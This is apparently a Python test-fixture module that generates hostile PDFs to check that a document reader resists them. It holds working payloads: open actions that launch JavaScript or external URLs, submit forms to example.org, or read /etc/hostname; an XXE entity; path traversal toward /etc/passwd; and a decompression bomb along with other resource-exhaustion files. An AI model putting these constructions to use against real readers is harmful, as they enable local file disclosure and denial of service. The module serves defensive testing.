"""Documents that want to reach out, to hang or to crash whoever reads them, made by the tests."""

from __future__ import annotations

import zlib
from pathlib import Path

from tests.unit.documents.files import (
    endless_pdf,
    page_pdf,
    pdf,
    raw_pdf,
    stream,
    text_content,
    zero_page_pdf,
)

WORDS = text_content("A readable page", 72, 700)
OUTSIDE = b"/etc/hostname"
"""A file that is on every Linux system, and that no document may make the program open."""


def opening(action: bytes) -> bytes:
    """A page whose document wants something done as soon as it is open."""
    return page_pdf(WORDS, catalog=b"/OpenAction<<%s>>" % action)


def boxed(box: bytes, entries: bytes = b"") -> bytes:
    """A page of an odd size."""
    return raw_pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s>>" % (box, entries),
            4: stream(b"0 0 10 10 re f"),
        }
    )


def pictured(dictionary: bytes, content: bytes) -> bytes:
    """A page with a picture that fills it."""
    return raw_pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
            b"/Resources<</XObject<</I 5 0 R>>>>>>",
            4: stream(b"q 612 0 0 792 0 0 cm /I Do Q"),
            5: stream(content, b"/Type/XObject/Subtype/Image" + dictionary),
        }
    )


def packed(times: int, part: bytes) -> bytes:
    """The body of a stream that unpacks to ``part``, so many times: a thousand of them are packed, and that
    is repeated, which takes a hundredth of the time."""
    packer = zlib.compressobj(9)
    thousand = part * 1000
    first, again = (packer.compress(thousand) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    end = b"\x03\x00"  # an empty last block
    checksum = 1
    for _ in range(times // 1000):
        checksum = zlib.adler32(thousand, checksum)
    content = first + again * (times // 1000 - 1) + end + checksum.to_bytes(4)
    return stream(content, b"/Filter/FlateDecode")


def bomb() -> bytes:
    """A page whose content unpacks to 400 MB of drawing that never ends soon."""
    return raw_pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
            4: packed(20_000_000, b"0 0 600 700 re f 1 "),
        }
    )


REACHING_OUT = {
    "script": opening(b"/S/JavaScript/JS(app.launchURL\\('http://example.org'\\))"),
    "launch": opening(b"/S/Launch/F(%s)" % OUTSIDE),
    "address": opening(b"/S/URI/URI(http://example.org/)"),
    "other file": opening(b"/S/GoToR/F(\\\\\\\\example.org\\\\share\\\\a.pdf)/D[0/Fit]"),
    "movie": opening(b"/S/Rendition/R<</S/MR/C<</S/MCD/D(%s)/CT(video/mp4)>>>>" % OUTSIDE),
    "form data": opening(b"/S/SubmitForm/F(http://example.org/)"),
    "import": opening(b"/S/ImportData/F(%s)" % OUTSIDE),
    "external content": page_pdf(
        b"", page=b"/Contents 6 0 R", objects={6: stream(b"", b"/F(%s)/FFilter/ASCIIHexDecode" % OUTSIDE)}
    ),
    "external picture": pictured(
        b"/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8/F(%s)" % OUTSIDE, b""
    ),
    "form with entities": page_pdf(
        WORDS,
        catalog=b"/AcroForm<</Fields[]/XFA 6 0 R>>",
        objects={6: stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file://%s">]><xdp:xdp>&e;</xdp:xdp>' % OUTSIDE)},
    ),
    "attached above": page_pdf(
        WORDS,
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>",
        objects={6: b"<</Type/Filespec/F(../../../a)/EF<</F 7 0 R>>>>", 7: stream(b"attached")},
    ),
    "attached outside": page_pdf(
        WORDS,
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>",
        objects={6: b"<</Type/Filespec/F(%s)>>" % OUTSIDE},
    ),
    "links": page_pdf(
        WORDS,
        page=b"/Annots[<</Subtype/Link/Rect[0 0 99 99]/A<</S/Launch/F(%s)>>>>"
        b"<</Subtype/Link/Rect[0 99 99 199]/A<</S/URI/URI(file://%s)>>>>]" % (OUTSIDE, OUTSIDE),
    ),
    "font not embedded": page_pdf(
        b"BT /F9 20 Tf 72 700 Td (elsewhere) Tj ET",
        page=b"/Resources<</Font<</F9<</Type/Font/Subtype/TrueType/BaseFont/No#2FSuch#2FFont>>>>>>",
    ),
    "glyphs by a foreign table": page_pdf(
        b"BT /F9 20 Tf 72 700 Td (ab) Tj ET",
        page=b"/Resources<</Font<</F9<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/..#2F..#2Fetc#2Fpasswd"
        b"/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo"
        b"<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>>>]>>>>>>",
    ),
}
"""PDF files that name something outside themselves."""

ODD = {
    "no pages": zero_page_pdf(),
    "cut": pdf(WORDS)[:400],
    "a page of no size": boxed(b"0 0 0 0"),
    "a page as wide as the world": boxed(b"0 0 1e38 1e38"),
    "a page as wide as a planet's orbit": boxed(b"0 0 99999997952 792"),
    "words beyond all measure": page_pdf(text_content("far", 9e11, 700)),
    "a thin page": boxed(b"0 0 0.001 100000"),
    "a page inside out": boxed(b"612 792 0 0"),
    "giant units": boxed(b"0 0 612 792", b"/UserUnit 75000"),
    "pages in circles": raw_pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"}
    ),
    "a billion pages": raw_pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 1000000000>>"}
    ),
    "deep arrays": page_pdf(b"[" * 500_000),
    "a giant picture": pictured(
        b"/Width 2000000000/Height 2000000000/ColorSpace/DeviceRGB/BitsPerComponent 8", b"0"
    ),
    "a giant fax": pictured(
        b"/Width 65535/Height 65535/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode"
        b"/DecodeParms<</K -1/Columns 65535/Rows 65535>>",
        b"\xff" * 64,
    ),
    "without end": endless_pdf(),
    "a bomb": bomb(),
}
"""PDF files that are broken, too large, or endless."""

NEVER_DRAWN = {"without end.pdf", "a bomb.pdf"}
"""Of :data:`ODD`, what no worker can finish within its limits."""


def write_hostile(folder: Path) -> None:
    """Write all of them, and between them good ones that must be read whatever stands before them."""
    for number, (name, content) in enumerate({**REACHING_OUT, **ODD}.items()):
        (folder / f"{name}.pdf").write_bytes(content)
        (folder / f"{name} z good.pdf").write_bytes(pdf(WORDS, text_content(f"good {number}", 72, 600)))
